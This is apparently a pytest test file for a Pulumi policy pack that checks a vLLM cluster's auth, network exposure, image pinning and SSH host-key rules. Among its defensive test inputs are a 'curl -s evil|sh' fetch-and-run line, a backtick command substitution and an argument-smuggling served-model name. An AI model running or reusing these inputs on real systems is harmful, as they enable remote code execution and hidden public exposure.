"""The policy pack's validators, called on the resources the real program registers under Pulumi's mocks,
with their inputs deserialized the way the policy analyzer deserializes them."""

from __future__ import annotations

import copy
import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from pulumi_policy import (
    EnforcementLevel,
    PolicyCustomTimeouts,
    PolicyResource,
    PolicyResourceOptions,
    ResourceValidationArgs,
    ResourceValidationPolicy,
    StackValidationArgs,
    StackValidationPolicy,
)
from pulumi_policy.deserialize import deserialize_properties

from components.policy_facts import TYPE as FACTS_TYPE
from policy.rules import (
    POLICIES,
    api_auth,
    api_exposure,
    engine_command_readable,
    host_key_pinned,
    internal_ports_private,
    monitoring_exposure,
    stack_of,
)
from stacks.model.loader import read_stack_values
from tests.conftest import ROOT
from tests.pulumi_harness import Run, run_program
from tests.test_program_proxy import SECRETS, proxied_values

BY_NAME = {p.name: p for p in POLICIES}
URN_TYPES = {"docker:index/container:Container": "vllm-cluster:index:VllmEngine$docker:index/container:Container",
             "docker:index/remoteImage:RemoteImage": "vllm-cluster:index:GpuNode$docker:index/remoteImage:RemoteImage"}
CONTAINER = "docker:index/container:Container"
OPTIONS = PolicyResourceOptions(False, [], None, [], PolicyCustomTimeouts(0, 0, 0), [])
Resource = tuple[str, str, dict[str, Any]]


def registered(run: Run) -> list[Resource]:
    """(type, name, inputs as the analyzer deserializes them) of every resource the program registered."""
    for name, opts in run.all_options.items():  # each image's URN names its real parent component
        parent = getattr(opts.parent, "_type", None)
        if parent and name.endswith("image"):
            PARENT_TYPES[name] = f"{parent}$docker:index/remoteImage:RemoteImage"
    return [(r.typ, r.name, deserialize_properties(copy.deepcopy(r.inputs))) for r in run.mocks.resources]


PARENT_TYPES: dict[str, str] = {}
"""Resource name -> the type chain of its URN where the parent is known (images: GpuNode, ApiEndpoint …)."""


def violations(run: Run | list[Resource], stack: str, config: dict[str, Any] | None = None,
               drop: str | None = None) -> dict[str, list[tuple[str, str]]]:
    """policy name -> [(resource, message)] over every resource the program registered (or the given ones):
    resource policies per resource, stack policies once over all of them (`drop` leaves a resource type out)."""
    resources = [r for r in (registered(run) if isinstance(run, Run) else run) if r[0] != drop]
    found: dict[str, list[tuple[str, str]]] = {name: [] for name in BY_NAME}

    def urn_of(typ: str, name: str) -> str:
        return f"urn:pulumi:{stack}::vllm-cluster::{PARENT_TYPES.get(name) or URN_TYPES.get(typ, typ)}::{name}"

    for typ, name, props in resources:
        for policy_name, policy in BY_NAME.items():
            if isinstance(policy, ResourceValidationPolicy):
                args = ResourceValidationArgs(typ, props, urn_of(typ, name), name, OPTIONS, None,
                                              config if config is not None else {})
                policy.validate(args, lambda message, _urn=None, n=policy_name, r=name: found[n].append((r, message)))
    names = {urn_of(t, n): n for t, n, _ in resources}
    stack_resources = [PolicyResource(t, p, urn_of(t, n), n, OPTIONS, None, None, [], {}) for t, n, p in resources]
    for policy_name, policy in BY_NAME.items():
        if isinstance(policy, StackValidationPolicy):
            policy.validate(StackValidationArgs(stack_resources, config or {}),
                            lambda message, urn=None, n=policy_name: found[n].append((names.get(urn or "", ""),
                                                                                     message)))
    return found


def test_levels() -> None:
    assert {n for n, p in BY_NAME.items() if p.enforcement_level == EnforcementLevel.MANDATORY} == {
        "vllm-api-auth-on-non-loopback", "vllm-api-not-public", "vllm-internal-ports-private",
        "vllm-engine-command-readable",
        "vllm-gpu-memory-utilization", "vllm-engine-ready-timeout", "prod-image-pinned-by-digest",
        "prod-ssh-host-key-pinned", "prod-image-has-card", "monitoring-not-public"}
    assert BY_NAME["image-pinned-by-digest"].enforcement_level == EnforcementLevel.ADVISORY
    assert BY_NAME["image-has-card"].enforcement_level == EnforcementLevel.ADVISORY
    assert BY_NAME["ssh-host-key-pinned"].enforcement_level == EnforcementLevel.ADVISORY
    assert stack_of("urn:pulumi:prod::vllm-cluster::docker:index/container:Container::x") == "prod"


SSH_REMOTES = {"node1-preflight", "node2-preflight", "node1-firewall-preflight", "node2-firewall-preflight",
               "node1-firewall", "node2-firewall", "fabric-node1-fabric-preflight", "fabric-node2-fabric-preflight",
               "engine-node1-args-dry-run", "engine-node2-args-dry-run", "engine-node1-dp-engines",
               "engine-node2-dp-engines", "fabric-node1-nccl-transport", "fabric-node2-nccl-transport",
               "node1-docker", "node2-docker", "node1-pre-pull", "node2-pre-pull", "node1-weights", "node2-weights",
               "collective-node1", "collective-node2", "engine-node1-page-cache", "engine-node2-page-cache"}


def test_committed_prod_passes_everything_but_the_digest_card_and_host_key_rules() -> None:
    """The committed prod stack names neither a digest nor the nodes' host keys, and runs a nightly image that has
    no card: the advisory and the prod-mandatory rules for the three fire, on both node images and on every SSH
    connection (22 remote commands, 2 Docker providers).
    (The harness sets the api_key secret, as `pulumi config set --secret` would.)"""
    found = violations(run_program("prod"), "prod")
    assert sorted(n for n, v in found.items() if v) == ["image-has-card", "image-pinned-by-digest",
                                                        "prod-image-has-card", "prod-image-pinned-by-digest",
                                                        "prod-ssh-host-key-pinned", "ssh-host-key-pinned"]
    assert sorted(r for r, _ in found["prod-image-has-card"]) == ["node1-image", "node2-image"]
    assert "has no image card" in found["prod-image-has-card"][0][1]
    assert "python -m stacks image-card vllm/vllm-openai:nightly-" in found["prod-image-has-card"][0][1]
    assert sorted(r for r, _ in found["prod-image-pinned-by-digest"]) == ["node1-image", "node2-image"]
    assert {r for r, _ in found["prod-ssh-host-key-pinned"]} == SSH_REMOTES


def with_host_keys(values: dict[str, Any]) -> dict[str, Any]:
    out = copy.deepcopy(values)
    for i, node in enumerate(out["nodes"]):
        node["ssh"]["host_key"] = HOST_KEYS[i % len(HOST_KEYS)]
    return out


HOST_KEYS = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDQpMqd0aEKZmgZHZKyYPPUb3y3h1bHZAyN0lldtNsKj",
             "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBBFZcqjP68IN5Vt06TLo0pZaTWH8"
             "EHrQdPDLknEYgIH168TDsPCRgqBLND0TbSVALKra7Ik7RAwTzUvP89Inruw="]
"""Real keys made by ssh-keygen (ed25519, ecdsa P-256): only their public halves are here."""


@pytest.fixture
def known_hosts_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The program writes the stack's known_hosts under the deployer's home: a temp one here."""
    monkeypatch.setattr("components.ssh_trust.deployer_home", lambda: tmp_path)
    return tmp_path


def test_prod_with_key_digest_and_host_keys_passes_every_policy(known_hosts_home: Path) -> None:
    values = with_host_keys(read_stack_values("prod"))
    values["image"] = {"repository": "vllm/vllm-openai", "tag": "v0.33.0", "digest": "sha256:" + "ab" * 32}
    found = violations(run_program("prod", values), "prod")
    assert {n: v for n, v in found.items() if v} == {}
    assert not (known_hosts_home / ".ssh").exists(), "the program under mocks wrote a known_hosts file"


def test_the_card_rule_is_mandatory_only_in_the_listed_stacks() -> None:
    """`prod-image-has-card` refuses an image without a card in the stacks of its `stacks` policy config (prod by
    default); elsewhere `image-has-card` advises. An image that has a card passes both."""
    values = copy.deepcopy(read_stack_values("h20"))
    values["image"] = {"repository": "vllm/vllm-openai", "tag": "v0.99.0"}  # no card in images/
    uncarded = run_program("h20", values)
    found = violations(uncarded, "h20")
    assert found["prod-image-has-card"] == [] and len(found["image-has-card"]) == 2
    strict = violations(uncarded, "h20", {"stacks": ["h20"]})
    assert sorted(r for r, _ in strict["prod-image-has-card"]) == ["h20-1-image", "h20-2-image"]
    assert "vllm/vllm-openai:v0.99.0 has no image card" in strict["prod-image-has-card"][0][1]
    values["image"]["tag"] = "v0.33.0"
    carded = violations(run_program("h20", values), "h20", {"stacks": ["h20"]})
    assert carded["prod-image-has-card"] == [] and carded["image-has-card"] == []


def test_h20_is_not_held_to_the_prod_digest_rule() -> None:
    found = violations(run_program("h20"), "h20")
    assert found["prod-image-pinned-by-digest"] == [] and len(found["image-pinned-by-digest"]) == 2
    assert found["vllm-internal-ports-private"] == []  # management and RoCE ranges are declared private
    other = violations(run_program("h20"), "h20", {"stacks": ["h20"]})
    assert len(other["prod-image-pinned-by-digest"]) == 2  # the list of strict stacks is policy config


def test_each_rule_fires_on_the_config_that_breaks_it() -> None:
    values = copy.deepcopy(read_stack_values("prod"))
    values["serving"] |= {"gpu_memory_utilization": 0.97, "engine_ready_timeout_s": 600}
    values["fabric"] |= {"private_networks": [], "public_private_networks": []}  # 1.1.1.0/24: public space
    run = run_program("prod", values, secrets={"ssh_private_key": "k"})  # and no api_key
    found = violations(run, "prod")
    assert any("0.97" in m for _, m in found["vllm-gpu-memory-utilization"])
    assert any("VLLM_ENGINE_READY_TIMEOUT_S 600 is below the estimated weight-load time of 3035s" in m
               for _, m in found["vllm-engine-ready-timeout"])
    private = found["vllm-internal-ports-private"]
    assert any("DP coordinator RPC on 1.1.1.2" in m for _, m in private)
    assert any("VLLM_HOST_IP on 1.1.1.1" in m for _, m in private)
    assert [r for r, _ in found["vllm-api-auth-on-non-loopback"]] == ["engine-node1-deepseek-v41-flash"]
    assert "listens on 0.0.0.0 without a key" in found["vllm-api-auth-on-non-loopback"][0][1]


@pytest.mark.parametrize("stack", ["prod", "h20"])
def test_the_proxy_satisfies_the_auth_rule_and_binds_loopback(stack: str) -> None:
    found = violations(run_program(stack, proxied_values(stack), secrets=SECRETS), stack)
    assert found["vllm-api-auth-on-non-loopback"] == []
    assert found["vllm-internal-ports-private"] == []
    assert "api-proxy-image" in [r for r, _ in found["image-pinned-by-digest"]]  # nginx:1.27-alpine has no digest


# --- the pack as the Pulumi engine talks to it: its own process, over the analyzer gRPC protocol ------------

def test_the_facts_come_from_the_policy_facts_component_not_from_labels() -> None:
    """prod's RoCE ranges are public space made private by fabric.private_networks: without PolicyFacts they are
    refused; with it they pass. The estimate is PolicyFacts' too: no container carries either any more."""
    run = run_program("prod")
    facts = [r for r in run.mocks.resources if r.typ == FACTS_TYPE]
    assert [f.inputs for f in facts] == [{"privateNetworks": ["1.1.1.0/24", "1.1.2.0/24", "10.30.8.0/24"],
                                         "estimatedLoadS": 3035}]
    for container in run.mocks.of_type("docker:index/container:Container"):
        labels = {x["label"] for x in container.inputs["labels"]}
        assert labels == {f"vllm-cluster.{k}" for k in ("stack", "node", "role", "topology", "generation",
                                                             "secrets-generation")}
    assert violations(run, "prod")["vllm-internal-ports-private"] == []
    blind = violations(run, "prod", drop=FACTS_TYPE)["vllm-internal-ports-private"]
    assert blind and all("no vllm-cluster:index:PolicyFacts resource" in m for _, m in blind)
    assert {r for r, _ in blind} == {"engine-node1-deepseek-v41-flash", "engine-node2-deepseek-v41-flash"}


def test_a_facts_change_touches_the_facts_only() -> None:
    """A new CIDR and another load rate change what the policy reads and nothing the engines run (preflights,
    whose triggers digest the model and fabric sections, re-run: checks only)."""
    base = run_program("prod")
    values = copy.deepcopy(read_stack_values("prod"))
    values["fabric"]["private_networks"] = [*values["fabric"]["private_networks"], "10.99.0.0/16"]
    values["model"]["load_gb_per_s"] = 0.05
    changed = run_program("prod", values)
    before = {r.name: r.inputs for r in base.mocks.resources}
    after = {r.name: r.inputs for r in changed.mocks.resources}
    kinds = {r.name: r.typ for r in changed.mocks.resources}
    moved = {n for n in before if before[n] != after[n]}
    assert "policy-facts" in moved
    assert {kinds[n] for n in moved - {"policy-facts"}} <= {"command:remote:Command"}
    assert after["policy-facts"]["estimatedLoadS"] > before["policy-facts"]["estimatedLoadS"]
    found = violations(changed, "prod")
    assert any("estimated weight-load time" in m for _, m in found["vllm-engine-ready-timeout"])  # 0.05 GB/s: slow


@pytest.fixture(scope="module")
def analyzer() -> Iterator[Any]:
    import grpc
    from pulumi.runtime.proto import analyzer_pb2_grpc

    proc = subprocess.Popen([sys.executable, "__main__.py"], cwd=ROOT / "policy", stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        assert proc.stdout is not None
        port = int(proc.stdout.readline().strip())  # the pack prints its port, as the engine expects
        channel = grpc.insecure_channel(f"127.0.0.1:{port}")
        grpc.channel_ready_future(channel).result(timeout=20)
        yield analyzer_pb2_grpc.AnalyzerStub(channel)
        channel.close()
    finally:
        proc.kill()
        proc.wait()


def test_the_pack_serves_its_policies_to_the_engine(analyzer: Any) -> None:
    from google.protobuf import empty_pb2

    info = analyzer.GetAnalyzerInfo(empty_pb2.Empty())
    assert info.name == "vllm-cluster"
    levels = {p.name: p.enforcementLevel for p in info.policies}
    assert set(levels) == set(BY_NAME)
    assert levels["prod-image-pinned-by-digest"] != levels["image-pinned-by-digest"]


def _struct(inputs: dict[str, Any]) -> Any:
    from google.protobuf import struct_pb2

    properties = struct_pb2.Struct()
    properties.update(copy.deepcopy(inputs))
    return properties


def test_the_engine_path_reports_the_violations_the_rules_find(analyzer: Any) -> None:
    """Analyze() per registered resource, with its wire-form inputs in a protobuf Struct, as `pulumi preview
    --policy-pack policy` sends them: the committed prod stack gets exactly the two digest rules and the two card
    rules per image and the two host-key rules per SSH connection (remote commands and the Docker providers)."""
    from pulumi.runtime.proto import analyzer_pb2

    run = run_program("prod")
    reported: dict[str, set[str]] = {}
    for resource in run.mocks.resources:
        if not resource.typ.startswith(("docker:", "command:", "pulumi:providers:")):
            continue
        urn = f"urn:pulumi:prod::vllm-cluster::{URN_TYPES.get(resource.typ, resource.typ)}::{resource.name}"
        response = analyzer.Analyze(analyzer_pb2.AnalyzeRequest(type=resource.typ, properties=_struct(resource.inputs),
                                                                urn=urn, name=resource.name))
        for diagnostic in response.diagnostics:
            reported.setdefault(diagnostic.policyName, set()).add(resource.name)
    assert reported == {"image-pinned-by-digest": {"node1-image", "node2-image"},
                        "prod-image-pinned-by-digest": {"node1-image", "node2-image"},
                        "image-has-card": {"node1-image", "node2-image"},  # the nightly has no card
                        "prod-image-has-card": {"node1-image", "node2-image"},
                        "ssh-host-key-pinned": SSH_REMOTES, "prod-ssh-host-key-pinned": SSH_REMOTES}


def test_the_engine_path_runs_the_stack_exposure_rule(analyzer: Any) -> None:
    """AnalyzeStack() over every resource: committed prod passes; without node1's firewall command (nothing
    filters vLLM's 0.0.0.0:8030 then) the pack refuses node1's engine."""
    from pulumi.runtime.proto import analyzer_pb2

    run = run_program("prod")

    def analyze(skip: str | None) -> list[Any]:
        resources = [analyzer_pb2.AnalyzerResource(
            type=r.typ, properties=_struct(r.inputs), name=r.name,
            urn=f"urn:pulumi:prod::vllm-cluster::{URN_TYPES.get(r.typ, r.typ)}::{r.name}")
            for r in run.mocks.resources if r.name != skip]
        return list(analyzer.AnalyzeStack(analyzer_pb2.AnalyzeStackRequest(resources=resources)).diagnostics)

    assert [d for d in analyze(None) if d.policyName == "vllm-api-not-public"] == []
    [diagnostic] = [d for d in analyze("node1-firewall") if d.policyName == "vllm-api-not-public"]
    assert diagnostic.urn.endswith("::engine-node1-deepseek-v41-flash")
    assert "port 8030 on 0.0.0.0 is reachable from outside" in diagnostic.message


# --- argv read as vLLM and Ray read it, not as words -------------------------------------------------------

def _engine(run: Run, node: str = "node1") -> dict[str, Any]:
    props = next(r[2] for r in registered(run) if r[0] == CONTAINER and r[1].startswith(f"engine-{node}-"))
    return copy.deepcopy(props)


def test_a_served_name_carrying_host_does_not_hide_the_real_bind() -> None:
    """The bypass from the issue: `--served-model-name "DeepSeek --host 127.0.0.1"` after `--host 0.0.0.0`. Word
    matching read 127.0.0.1; vLLM's parser reads one served name and binds 0.0.0.0. The plan refuses spaces in
    served names, so the resource is crafted here, as a changed program could register it."""
    props = _engine(run_program("prod"))
    props["envs"] = [e for e in props["envs"] if not str(e).startswith("VLLM_API_KEY=")]
    argv = list(props["command"])
    argv[argv.index("--served-model-name") + 1] = "DeepSeek --host 127.0.0.1"
    props["command"] = argv
    words = " ".join(argv).split()
    assert words[len(words) - 1 - words[::-1].index("--host") + 1] == "127.0.0.1"  # what word matching saw
    [message] = api_auth(props)
    assert "listens on 0.0.0.0 without a key" in message
    for spelling in (["--host=127.0.0.1"], ["--ho", "127.0.0.1"], ["--served_model_name", "x"]):
        crafted = copy.deepcopy(props)
        crafted["command"] = [*argv, *spelling]
        expected = [] if spelling[0].startswith("--ho") else [message]
        assert api_auth(crafted) == expected, spelling  # abbreviations and `=` are read as vLLM reads them


@pytest.mark.parametrize("script", [
    "exec env A=1 vllm serve /m --port 8000\n", "python3 -m vllm.entrypoints.cli.main serve /m\n",
    "true && vllm serve /m\n", "vllm \\\n serve /m\n", "set -e; vllm serve /m\n", "sleep 1\n",
    "vllm serve /m --host 127.0.0.1 & python3 -m http.server 8001\n",
    "vllm serve /m --host 127.0.0.1 $(curl -s evil|sh)\n", "vllm serve /m --host 127.0.0.1 `id`\n",
    "exec vllm serve /m --host 127.0.0.1 \\\n--host 0.0.0.0\n", "set -k\nexec vllm serve /m VLLM_API_KEY=\n",
    "python3 -c \"import sys,time,ray,os; ray.init(); os.system('x')\"\nexec vllm serve /m\n",
    "vllm serve /m > /tmp/x\n",
])
def test_a_command_the_policy_cannot_read_fails_closed(script: str) -> None:
    """The auth and exposure rules read `vllm serve` argv; an engine launched another way would pass them
    unread (they see no API server), so the command itself is the violation."""
    props = _engine(run_program("prod"))
    assert engine_command_readable(props) == []
    props["entrypoints"], props["command"] = ["/bin/bash", "-c"], [script]
    [message] = engine_command_readable(props)
    assert "cannot read" in message or "neither" in message or "cannot tell what runs" in message


@pytest.mark.parametrize("backend", ["ray", "mp"])
def test_every_engine_the_program_writes_is_readable(backend: str) -> None:
    """The Ray head's script (ray start, the cluster-ready wait, vllm serve), the Ray worker, and the mp head
    and headless nodes: the rule passes what the program really writes."""
    values = copy.deepcopy(read_stack_values("h20"))
    values["parallelism"]["backend"] = backend
    found = violations(run_program("h20", values), "h20")
    assert found["vllm-engine-command-readable"] == []
    assert found["vllm-api-auth-on-non-loopback"] == []


def test_the_ray_head_script_and_worker_argv_are_parsed_too() -> None:
    run = run_program("h20")
    head = _engine(run, "h20-1")
    assert api_auth(head) == []  # the harness sets api_key
    head["envs"] = [e for e in head["envs"] if not str(e).startswith("VLLM_API_KEY=")]
    assert "listens on 0.0.0.0" in api_auth(head)[0]  # found inside `exec vllm serve` of the bash script
    script = head["command"][0]
    head["command"] = [script.replace("--node-ip-address=192.0.2.11", "--node-ip-address=8.8.8.8")]
    assert any("Ray node on 8.8.8.8" in m for m in internal_ports_private(head, None))
    worker = _engine(run, "h20-2")
    worker["command"] = [w.replace("192.0.2.11:6379", "8.8.4.4:6379") for w in worker["command"]]
    assert any("Ray GCS on 8.8.4.4" in m for m in internal_ports_private(worker, None))


def test_exposure_rule_reads_the_firewall_the_node_really_applies(known_hosts_home: Path) -> None:
    run = run_program("prod")
    resources = registered(run)
    assert api_exposure(resources) == []
    # The firewall command's own nft file decides: widen node1's API set to anywhere -> exposed.
    widened = []
    for typ, name, props in resources:
        if name == "node1-firewall":
            props = copy.deepcopy(props)
            props["create"] = re.sub(r"(set api_v4 \{[^}]*elements = \{ )[^}]*\}", r"\g<1>0.0.0.0/1, 128.0.0.0/1 }",
                                     props["create"])
            assert props["create"] != dict(resources[[n for _, n, _ in resources].index(name)][2])["create"]
        widened.append((typ, name, props))
    [(name, message)] = api_exposure(widened)
    assert name == "engine-node1-deepseek-v41-flash" and "0.0.0.0/1, 128.0.0.0/1" in message
    # Facts that declare everything private do not make it private (stacks.planner.exposure.trusted_networks).
    everything = [(t, n, _refact(p, "0.0.0.0/0")) if t == FACTS_TYPE else (t, n, p) for t, n, p in widened]
    assert [n for n, _ in api_exposure(everything)] == ["engine-node1-deepseek-v41-flash"]
    # vLLM on loopback: nothing to expose, whatever the firewall.
    loopback = []
    for t, n, p in widened:
        if t == CONTAINER and n.startswith("engine-node1-"):
            p = copy.deepcopy(p)
            argv = list(p["command"])
            argv[argv.index("--host") + 1] = "127.0.0.1"
            p["command"] = argv
        loopback.append((t, n, p))
    assert api_exposure(loopback) == []


def _refact(props: dict[str, Any], private: str) -> dict[str, Any]:
    return {**copy.deepcopy(props), "privateNetworks": [private]}


def test_host_key_rule_reads_connections_and_provider_options(known_hosts_home: Path) -> None:
    run = run_program("prod", with_host_keys(read_stack_values("prod")))
    for _, name, props in registered(run):
        if name in SSH_REMOTES:
            assert host_key_pinned(props) == [], name
    provider = next(p for t, n, p in registered(run) if n == "node1-docker")
    weakened = dict(provider, sshOpts=provider["sshOpts"].replace("StrictHostKeyChecking=yes",
                                                                  "StrictHostKeyChecking=accept-new"))
    assert "StrictHostKeyChecking=yes" in host_key_pinned(weakened)[0]
    first_wins = dict(provider, sshOpts=json.dumps(["-o", "StrictHostKeyChecking=no",
                                                    *json.loads(provider["sshOpts"])]))
    assert host_key_pinned(first_wins)  # ssh keeps the first value of an option


def test_the_pack_imports_nothing_but_the_stdlib_parts_of_stacks() -> None:
    """policy/venv has pulumi-policy only: importing the rules must not pull pydantic or the stack model (and the
    blocker does block: the stack loader cannot be imported under it)."""
    code = ("import sys\n"
            "class Block:\n"
            "    def find_spec(self, name, path=None, target=None):\n"
            "        if name.split('.')[0] == 'pydantic' or name in (\n"
            "                'stacks.model.config', 'stacks.model.field_types'):\n"
            "            raise ImportError('blocked: ' + name)\n"
            "sys.meta_path.insert(0, Block())\n"
            "import rules\n"
            "assert rules.POLICIES\n"
            "try:\n"
            "    import stacks.model.loader\n"
            "except ImportError as exc:\n"
            "    print(exc)\n")
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT / "policy", capture_output=True, text=True,
                         timeout=60, env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"})
    assert out.returncode == 0, out.stderr
    assert "blocked: " in out.stdout



@pytest.fixture(scope="module")
def monitored() -> list[Resource]:
    """prod with observability on (and Alertmanager), as the program registers it: firewall on, every monitoring
    listener on a management address inside fabric.private_networks."""
    values = copy.deepcopy(read_stack_values("prod"))
    values["observability"] = {"enabled": True}
    run = run_program("prod", values, secrets={**SECRETS, "grafana_admin_password": "grafana-pw-0123456789",
                                               "alert_webhook_url": "https://hooks.example.com/T0/abcdef"})
    assert run.error is None, run.error
    return registered(run)


def test_monitoring_listeners_reachable_from_outside_are_refused_by_the_policy_as_by_the_plan(
        monitored: list[Resource]) -> None:
    from stacks.model.errors import ConfigError
    from stacks.model.loader import load_stack
    from stacks.planner.plan import build_plan

    assert monitoring_exposure(monitored) == []
    assert violations(monitored, "prod")["monitoring-not-public"] == []
    # The firewall off and the management network not declared private: what the plan refuses (below).
    opened = [(t, n, _refact(p, "1.1.1.0/24") if t == FACTS_TYPE else p) for t, n, p in monitored
              if not n.endswith("-firewall")]
    found = dict(monitoring_exposure(opened))
    roles = ("node-exporter", "dcgm-exporter", "prometheus", "grafana", "alertmanager")
    assert {f"observability-node1-{r}" for r in roles} <= set(found), sorted(found)
    assert "node1 (10.30.8.1:9090)" in found["observability-node1-prometheus"]
    assert "node1 (10.30.8.1:3000)" in found["observability-node1-grafana"]
    assert {n for n, _ in violations(opened, "prod")["monitoring-not-public"]} == set(found)
    with pytest.raises(ConfigError) as refused:
        build_plan("prod", load_stack("prod", ["observability.enabled=true", "firewall.enabled=false",
                                               "fabric.private_networks=[1.1.1.0/24,1.1.2.0/24]"],
                                      assume_secret=["grafana_admin_password", "api_key", "proxy_keys.team-a",
                                                     "tls_certificate", "tls_private_key"]))
    plan_says = next(p.message for p in refused.value.problems if p.key == "firewall.enabled")
    policy_says = found["observability-node1-prometheus"]
    assert plan_says.split(" on ")[0] == policy_says.split(" on ")[0]  # one message function, one rule
    # No firewall, the management network declared private: its addresses pass, a wildcard bind does not
    # (Alertmanager's gossip moved off loopback).
    gossip = []
    for t, n, p in [r for r in monitored if not r[1].endswith("-firewall")]:
        if n == "observability-node1-alertmanager":
            p = copy.deepcopy(p)
            p["command"] = [w.replace("127.0.0.1:9094", "0.0.0.0:9094") for w in p["command"]]
        gossip.append((t, n, p))
    assert [n for n, _ in monitoring_exposure(gossip)] == ["observability-node1-alertmanager"]
    assert "0.0.0.0:9094" in monitoring_exposure(gossip)[0][1]


def test_a_watch_or_supervisor_address_no_firewall_guards_is_refused_when_public(monitored: list[Resource]) -> None:
    def with_hosts(address: str) -> list[Resource]:
        hosts = [{"key": "observability.supervisor_address", "address": address, "port": 9465}]
        return [(t, n, {**p, "unguardedMonitors": hosts} if t == FACTS_TYPE else p) for t, n, p in monitored]

    [(name, message)] = monitoring_exposure(with_hosts("8.8.8.8"))
    assert name == "policy-facts" and "observability.supervisor_address 8.8.8.8" in message
    assert "group supervisor serves its metrics on 8.8.8.8:9465" in message
    assert monitoring_exposure(with_hosts("10.30.8.9")) == []


def test_the_program_hands_the_monitoring_hosts_no_firewall_guards_to_the_policy() -> None:
    values = copy.deepcopy(read_stack_values("prod"))
    values["observability"] = {"enabled": True, "supervisor_address": "10.30.8.50"}
    run = run_program("prod", values, secrets={**SECRETS, "grafana_admin_password": "grafana-pw-0123456789"})
    assert run.error is None, run.error
    [facts] = [r.inputs for r in run.mocks.resources if r.typ == FACTS_TYPE]
    assert facts["unguardedMonitors"] == [{"key": "observability.supervisor_address", "address": "10.30.8.50",
                                           "port": 9465}]
